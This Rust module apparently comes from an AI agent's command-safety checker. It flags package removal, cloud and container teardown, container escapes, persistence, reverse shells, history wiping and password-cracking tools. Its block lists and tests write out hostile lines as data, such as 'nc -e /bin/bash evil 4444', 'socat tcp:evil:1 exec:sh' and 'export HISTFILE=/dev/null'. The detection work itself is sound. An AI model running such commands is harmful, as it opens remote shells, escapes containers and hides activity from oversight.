//! Rules for tools with subcommands, read from the parsed argv: package
//! managers removing packages, container and cloud CLIs destroying what they
//! manage or escaping their container, persistence (`crontab`,
//! `systemctl enable`), network shells (`nc -e`, `socat exec:`), password
//! crackers, cloud metadata addresses, and history wiping.

use super::args::operands;
use super::finding::{DangerCategory, Finding};
use super::targets;
use crate::capability::terminal::rules::shell::Invocation;

/// True if `args` asks for a dry run (`--dry-run`, `--simulate`, `-s` for apt).
fn dry_run(args: &[String]) -> bool {
    args.iter().any(|a| {
        a == "--simulate"
            || a == "--what-if"
            || (a.starts_with("--dry-run") && a != "--dry-run=none")
    })
}

/// `npm`, `pnpm`, `yarn`, `bun` options that take a value.
#[rustfmt::skip]
const JS_WITH_VALUE: &[&str] = &[
    "--prefix", "-C", "--dir", "--cwd", "--registry", "--userconfig", "--globalconfig", "--cache",
    "-w", "--workspace", "--loglevel", "--filter", "-F",
];

/// `pip` options that take a value.
#[rustfmt::skip]
const PIP_WITH_VALUE: &[&str] = &[
    "--proxy", "-i", "--index-url", "--log", "--cache-dir", "--timeout", "--retries", "--cert",
    "--client-cert", "--exists-action", "--python", "--extra-index-url",
];

/// Container CLIs' global options that take a value.
#[rustfmt::skip]
const CONTAINER_WITH_VALUE: &[&str] = &[
    "-H", "--host", "-c", "--context", "--config", "-l", "--log-level", "--tlscacert",
    "--tlscert", "--tlskey", "--url", "--connection", "--root", "--runroot", "--namespace", "-n",
];

/// `docker compose` options that take a value.
#[rustfmt::skip]
const COMPOSE_WITH_VALUE: &[&str] = &[
    "-p", "--project-name", "-f", "--file", "--env-file", "--profile", "--project-directory",
    "--ansi", "--parallel", "--progress",
];

/// `kubectl` and `helm` global options that take a value.
#[rustfmt::skip]
const KUBE_WITH_VALUE: &[&str] = &[
    "-n", "--namespace", "--context", "--kubeconfig", "--cluster", "--user", "-s", "--server",
    "--kube-context",
];

/// `aws` global options that take a value.
#[rustfmt::skip]
const AWS_WITH_VALUE: &[&str] = &[
    "--profile", "--region", "--output", "--endpoint-url", "--query", "--color", "--ca-bundle",
    "--cli-read-timeout", "--cli-connect-timeout",
];

/// Addresses of cloud instance metadata services, which hand out the
/// instance's credentials.
#[rustfmt::skip]
const METADATA_HOSTS: &[&str] = &[
    "169.254.169.254", "169.254.170.2", "fd00:ec2::254", "metadata.google.internal",
    "metadata.goog", "100.100.100.200", "169.254.169.123",
];

/// Password crackers and online brute-forcers.
#[rustfmt::skip]
const ATTACK_TOOLS: &[&str] = &[
    "john", "hashcat", "hydra", "medusa", "ncrack", "patator", "crowbar", "thc-hydra",
];

/// Network scanners.
const SCANNERS: &[&str] = &[
    "nmap",
    "masscan",
    "zmap",
    "unicornscan",
    "rustscan",
    "naabu",
];

/// Everything dangerous in `invocation` that these rules know.
pub(super) fn dangers(invocation: &Invocation) -> Vec<Finding> {
    let program = invocation.program.as_str();
    let args = invocation.args.as_slice();
    let mut found = Vec::new();
    found.extend(
        package_removal(program, args)
            .map(|reason| Finding::new(DangerCategory::PackageRemoval, reason)),
    );
    if !dry_run(args) {
        found.extend(
            infra_destroy(program, args)
                .map(|reason| Finding::new(DangerCategory::InfraDestroy, reason)),
        );
    }
    found.extend(
        container_escape(program, args)
            .map(|reason| Finding::new(DangerCategory::ContainerEscape, reason)),
    );
    found.extend(
        persistence(program, args).map(|reason| Finding::new(DangerCategory::Persistence, reason)),
    );
    found.extend(
        reverse_shell(program, args)
            .map(|reason| Finding::new(DangerCategory::ReverseShell, reason)),
    );
    found.extend(
        history_wipe(program, args).map(|reason| Finding::new(DangerCategory::HistoryWipe, reason)),
    );
    if ATTACK_TOOLS.contains(&program) {
        found.push(Finding::new(
            DangerCategory::AttackTool,
            format!("cracks or brute-forces passwords ({program})"),
        ));
    }
    let informs = args
        .iter()
        .all(|a| matches!(a.as_str(), "--help" | "-h" | "--version" | "-V"));
    if SCANNERS.contains(&program) && !informs {
        found.push(Finding::new(
            DangerCategory::AttackTool,
            format!("scans networks for hosts and ports ({program})"),
        ));
    }
    found
}

/// The cloud metadata address in `word`, if any.
pub(super) fn metadata_address(word: &str) -> Option<&'static str> {
    let lower = word.to_lowercase();
    METADATA_HOSTS.iter().copied().find(|host| {
        lower.match_indices(host).any(|(at, _)| {
            let before = lower[..at].chars().next_back();
            let after = lower[at + host.len()..].chars().next();
            let boundary = |c: Option<char>| {
                c.is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '.' || c == '-'))
            };
            boundary(before) && boundary(after)
        })
    })
}

/// Removing installed packages: `npm uninstall`, `pip uninstall`,
/// `apt remove`, `brew rm`, ...
fn package_removal(program: &str, args: &[String]) -> Option<String> {
    if dry_run(args) {
        return None;
    }
    // `python3 -m pip uninstall x` is pip.
    if program.starts_with("python")
        && let [flag, module, rest @ ..] = args
        && flag == "-m"
        && module.starts_with("pip")
    {
        return package_removal("pip", rest);
    }
    let (with_value, verbs): (&[&str], &[&str]) = match program {
        "npm" | "pnpm" | "yarn" | "bun" => (
            JS_WITH_VALUE,
            &["uninstall", "un", "unlink", "remove", "rm", "r"],
        ),
        p if p.starts_with("pip") => (PIP_WITH_VALUE, &["uninstall", "uninstall-all"]),
        "uv" | "poetry" | "pdm" | "gem" | "cargo" | "conda" | "mamba" | "snap" | "flatpak"
        | "port" => (&[], &["uninstall", "remove", "rm"]),
        "brew" => (&[], &["uninstall", "remove", "rm", "untap"]),
        "apt" | "apt-get" | "aptitude" | "dnf" | "yum" | "zypper" | "apk" => {
            if args.iter().any(|a| a == "-s" || a == "--no-act") {
                return None;
            }
            (
                &["-o", "-c", "-t", "--option"],
                &[
                    "remove",
                    "purge",
                    "autoremove",
                    "erase",
                    "del",
                    "rm",
                    "autopurge",
                ],
            )
        }
        "pacman" => {
            return args
                .iter()
                .any(|a| a.starts_with("-R") || a == "--remove")
                .then(|| "removes packages (pacman -R)".to_owned());
        }
        "dpkg" => {
            return args
                .iter()
                .any(|a| matches!(a.as_str(), "-r" | "-P" | "--remove" | "--purge"))
                .then(|| "removes packages (dpkg -r)".to_owned());
        }
        "rpm" => {
            return args
                .iter()
                .any(|a| a == "-e" || a == "--erase")
                .then(|| "removes packages (rpm -e)".to_owned());
        }
        _ => return None,
    };
    let operands = operands(args, with_value);
    // `yarn global remove`, `uv pip uninstall`, `conda env remove`.
    let verb = match operands.as_slice() {
        ["global" | "pip" | "env", verb, ..] | [verb, ..] => *verb,
        [] => return None,
    };
    verbs
        .contains(&verb)
        .then(|| format!("removes packages ({program} {verb})"))
}

/// Stopping or deleting containers, cluster resources, infrastructure or
/// cloud resources.
fn infra_destroy(program: &str, args: &[String]) -> Option<String> {
    match program {
        "docker" | "podman" | "nerdctl" => {
            let operands = operands(args, CONTAINER_WITH_VALUE);
            let action = match operands.as_slice() {
                ["compose", ..] => {
                    let rest: Vec<String> = args
                        .iter()
                        .skip_while(|a| *a != "compose")
                        .skip(1)
                        .cloned()
                        .collect();
                    return compose_destroy(program, &rest);
                }
                [
                    "container" | "image" | "volume" | "network" | "system" | "builder",
                    action,
                    ..,
                ] => *action,
                [action, ..] => *action,
                [] => return None,
            };
            matches!(
                action,
                "stop" | "kill" | "restart" | "rm" | "rmi" | "remove" | "prune" | "down"
            )
            .then(|| format!("stops or deletes containers or their data ({program} {action})"))
        }
        "docker-compose" | "podman-compose" => compose_destroy(program, args),
        "kubectl" | "oc" => {
            let operands = operands(args, KUBE_WITH_VALUE);
            let action = *operands.first()?;
            matches!(action, "delete" | "drain")
                .then(|| format!("deletes cluster resources ({program} {action})"))
        }
        "helm" => {
            let action = *operands(args, KUBE_WITH_VALUE).first()?;
            matches!(action, "uninstall" | "delete" | "del" | "un")
                .then(|| format!("uninstalls a release (helm {action})"))
        }
        "terraform" | "tofu" | "terragrunt" | "pulumi" => {
            let operands = operands(args, &["-chdir"]);
            let destroys = match operands.as_slice() {
                ["destroy", ..] | ["state", "rm", ..] => true,
                ["apply" | "up", ..] => args.iter().any(|a| a == "-destroy" || a == "--destroy"),
                _ => false,
            };
            destroys.then(|| format!("destroys managed infrastructure ({program} destroy)"))
        }
        "aws" => {
            let operands = operands(args, AWS_WITH_VALUE);
            let [service, operation, ..] = operands.as_slice() else {
                return None;
            };
            let destroys = matches!((*service, *operation), ("s3", "rm" | "rb"))
                || ["delete", "terminate", "remove", "purge", "deregister"]
                    .iter()
                    .any(|verb| operation.starts_with(verb));
            destroys.then(|| format!("deletes cloud resources (aws {service} {operation})"))
        }
        "gcloud" | "gsutil" | "az" | "doctl" | "heroku" | "flyctl" | "fly" | "vercel"
        | "linode-cli" => {
            let verb = operands(args, &[]).into_iter().find(|op| {
                matches!(*op, "delete" | "destroy" | "rm" | "rb")
                    || op.ends_with(":destroy")
                    || op.ends_with(":delete")
            })?;
            Some(format!("deletes cloud resources ({program} ... {verb})"))
        }
        _ => None,
    }
}

/// `docker compose down|rm|kill|stop|restart`.
fn compose_destroy(program: &str, args: &[String]) -> Option<String> {
    let action = *operands(args, COMPOSE_WITH_VALUE).first()?;
    matches!(action, "down" | "rm" | "kill" | "stop" | "restart")
        .then(|| format!("stops or deletes a compose project ({program} {action})"))
}

/// `docker run --privileged`, a host root or docker socket mounted in, the
/// host's PID namespace or all capabilities.
fn container_escape(program: &str, args: &[String]) -> Option<String> {
    if !matches!(program, "docker" | "podman" | "nerdctl") {
        return None;
    }
    let operands = operands(args, CONTAINER_WITH_VALUE);
    if !matches!(operands.first(), Some(&("run" | "create" | "exec"))) {
        return None;
    }
    let host_source = |spec: &str| {
        let source = spec
            .split(',')
            .find_map(|part| {
                part.strip_prefix("source=")
                    .or_else(|| part.strip_prefix("src="))
            })
            .unwrap_or_else(|| spec.split(':').next().unwrap_or_default());
        source.ends_with("docker.sock")
            || targets::absolute(source).is_some_and(|path| targets::root_target(&path).is_some())
    };
    let mut iter = args.iter();
    while let Some(arg) = iter.next() {
        let (option, value) = match arg.split_once('=') {
            Some((option, value)) if option.starts_with("--") => (option, Some(value)),
            _ => (arg.as_str(), None),
        };
        let mut value = || value.map(str::to_owned).or_else(|| iter.next().cloned());
        let escapes = match option {
            "--privileged" => true,
            "-v" | "--volume" | "--mount" => value().is_some_and(|spec| host_source(&spec)),
            "--pid" | "--userns" | "--ipc" | "--network" | "--net" | "--uts" | "--cgroupns" => {
                value().is_some_and(|v| v == "host")
            }
            "--cap-add" => value().is_some_and(|v| {
                let cap = v.to_uppercase();
                let cap = cap.trim_start_matches("CAP_");
                matches!(
                    cap,
                    "ALL"
                        | "SYS_ADMIN"
                        | "SYS_MODULE"
                        | "SYS_PTRACE"
                        | "SYS_RAWIO"
                        | "DAC_READ_SEARCH"
                        | "NET_ADMIN"
                        | "BPF"
                )
            }),
            "--security-opt" => value().is_some_and(|v| {
                v.ends_with("=unconfined") || v.ends_with(":unconfined") || v == "label=disable"
            }),
            "--device" => value().is_some_and(|v| {
                let device = v.split(':').next().unwrap_or_default();
                targets::absolute(device).is_some_and(|path| targets::is_device(&path))
                    && !["/dev/fuse", "/dev/net/tun", "/dev/kvm"].contains(&device)
            }),
            _ => false,
        };
        if escapes {
            return Some(format!(
                "gives a container the host ({program} {})",
                arg.as_str()
            ));
        }
    }
    None
}

/// Making something run later or at every boot: `crontab`, `systemctl
/// enable`, `at`, `launchctl load`.
fn persistence(program: &str, args: &[String]) -> Option<String> {
    let first = args.first().map(String::as_str).unwrap_or_default();
    match program {
        "crontab" => (!args
            .iter()
            .any(|a| matches!(a.as_str(), "-l" | "--help" | "-V")))
        .then(|| "installs or removes scheduled jobs (crontab)".to_owned()),
        "systemctl" => {
            let subcommand = operands(args, &["-H", "--host", "-M", "--machine", "--root"])
                .first()
                .map(|s| s.to_lowercase())?;
            matches!(
                subcommand.as_str(),
                "enable" | "reenable" | "link" | "preset" | "add-wants" | "add-requires"
            )
            .then(|| format!("makes a service start at boot (systemctl {subcommand})"))
        }
        "at" | "batch" if !matches!(first, "-l" | "-r" | "-d" | "-V" | "--help") => {
            Some(format!("schedules commands to run later ({program})"))
        }
        "launchctl" if matches!(first, "load" | "bootstrap" | "enable" | "submit") => {
            Some(format!("installs a launch agent (launchctl {first})"))
        }
        _ => None,
    }
}

/// A shell served over the network: `nc -e /bin/sh`, `ncat --sh-exec`,
/// `socat tcp:... exec:sh`.
fn reverse_shell(program: &str, args: &[String]) -> Option<String> {
    match program {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => args
            .iter()
            .take_while(|a| *a != "--")
            .any(|arg| {
                matches!(arg.as_str(), "--exec" | "--sh-exec" | "--lua-exec")
                    || arg.starts_with("--exec=")
                    || arg.starts_with("--sh-exec=")
                    || arg
                        .strip_prefix('-')
                        .is_some_and(|f| !f.starts_with('-') && f.contains(['e', 'c']))
            })
            .then(|| format!("serves a shell over the network ({program} -e)")),
        "socat" => {
            let lower: Vec<String> = args.iter().map(|a| a.to_lowercase()).collect();
            let runs = lower
                .iter()
                .any(|a| a.starts_with("exec:") || a.starts_with("system:"));
            let network = lower.iter().any(|a| {
                ["tcp", "udp", "openssl", "ssl", "sctp"]
                    .iter()
                    .any(|p| a.starts_with(p))
            });
            (runs && network).then(|| "serves a program over the network (socat exec:)".to_owned())
        }
        _ => None,
    }
}

/// Clearing the shell's history or turning it off.
fn history_wipe(program: &str, args: &[String]) -> Option<String> {
    let clears = match program {
        "history" => args
            .iter()
            .any(|a| a.strip_prefix('-').is_some_and(|f| f.contains(['c', 'd']))),
        "unset" => args.iter().any(|a| a == "HISTFILE"),
        "export" | "declare" | "typeset" | "readonly" => args.iter().any(|a| {
            matches!(
                a.as_str(),
                "HISTFILE=/dev/null" | "HISTSIZE=0" | "HISTFILESIZE=0" | "HISTFILE="
            )
        }),
        "set" => args.windows(2).any(|w| w[0] == "+o" && w[1] == "history"),
        _ => false,
    };
    clears.then(|| format!("clears or turns off the shell history ({program})"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::capability::terminal::rules::dangerous::programs::tests::assert_rules;

    #[test]
    fn each_rule_flags_its_line_and_not_its_near_miss() {
        use DangerCategory::*;
        let cases: &[(&str, DangerCategory, &str)] = &[
            (
                "npm uninstall -g left-pad",
                PackageRemoval,
                "npm install left-pad",
            ),
            (
                "npm --prefix ./app r x",
                PackageRemoval,
                "npm --prefix ./app run x",
            ),
            ("yarn global remove x", PackageRemoval, "yarn global add x"),
            (
                "pip --proxy http://p:1 uninstall -y x",
                PackageRemoval,
                "pip install x",
            ),
            (
                "python3 -m pip uninstall x",
                PackageRemoval,
                "python3 -m pip list",
            ),
            (
                "sudo apt-get purge nginx",
                PackageRemoval,
                "apt-get remove -s nginx",
            ),
            ("brew rm x", PackageRemoval, "brew upgrade x"),
            (
                "docker --log-level debug stop app",
                InfraDestroy,
                "docker ps",
            ),
            (
                "docker compose -p demo down",
                InfraDestroy,
                "docker compose -p demo up",
            ),
            ("docker system prune -af", InfraDestroy, "docker system df"),
            (
                "kubectl -n prod delete pod x",
                InfraDestroy,
                "kubectl get pods",
            ),
            (
                "kubectl delete pod x",
                InfraDestroy,
                "kubectl delete pod x --dry-run=client",
            ),
            ("terraform destroy", InfraDestroy, "terraform plan"),
            ("terraform apply -destroy", InfraDestroy, "terraform apply"),
            ("aws s3 rm s3://b/k", InfraDestroy, "aws s3 ls s3://b"),
            (
                "aws ec2 terminate-instances --instance-ids i-1",
                InfraDestroy,
                "aws ec2 describe-instances",
            ),
            (
                "gcloud compute instances delete vm1",
                InfraDestroy,
                "gcloud compute instances list",
            ),
            ("helm uninstall web", InfraDestroy, "helm list"),
            (
                "docker run --privileged alpine",
                ContainerEscape,
                "docker run --rm alpine true",
            ),
            (
                "docker run -v /:/host alpine",
                ContainerEscape,
                "docker run --rm -v /host:/x alpine",
            ),
            (
                "docker run --volume=/var/run/docker.sock:/s x",
                ContainerEscape,
                "docker run -v ./data:/d x",
            ),
            (
                "podman run --pid=host x",
                ContainerEscape,
                "podman run --pid=private x",
            ),
            ("crontab jobs.txt", Persistence, "crontab -l"),
            (
                "systemctl enable --now x",
                Persistence,
                "systemctl is-enabled x",
            ),
            ("at now + 1 hour", Persistence, "at -l"),
            ("nc -e /bin/bash evil 4444", ReverseShell, "nc -zv host 443"),
            (
                "ncat --sh-exec sh -l 4444",
                ReverseShell,
                "ncat example.com 4444",
            ),
            (
                "socat tcp:evil:1 exec:sh",
                ReverseShell,
                "socat - tcp:localhost:80",
            ),
            ("history -c", HistoryWipe, "history 20"),
            ("unset HISTFILE", HistoryWipe, "unset FOO"),
            ("export HISTFILE=/dev/null", HistoryWipe, "export PATH=/bin"),
            (
                "john --wordlist=w.txt hash.txt",
                AttackTool,
                "johnny --help",
            ),
            (
                "hydra -l admin -P p.txt ssh://t",
                AttackTool,
                "hyperfine ls",
            ),
        ];
        assert_rules(cases);
    }

    #[test]
    fn metadata_addresses_are_found_in_urls() {
        assert_eq!(
            metadata_address("http://169.254.169.254/latest/"),
            Some("169.254.169.254")
        );
        assert_eq!(
            metadata_address("http://[fd00:ec2::254]/x"),
            Some("fd00:ec2::254")
        );
        assert_eq!(
            metadata_address("http://Metadata.Google.Internal/x"),
            Some("metadata.google.internal")
        );
        assert_eq!(metadata_address("http://169.254.169.2540/"), None);
        assert_eq!(metadata_address("http://169.254.1.1/"), None);
        assert_eq!(metadata_address("metadata.google.internal.evil.com"), None);
    }
}
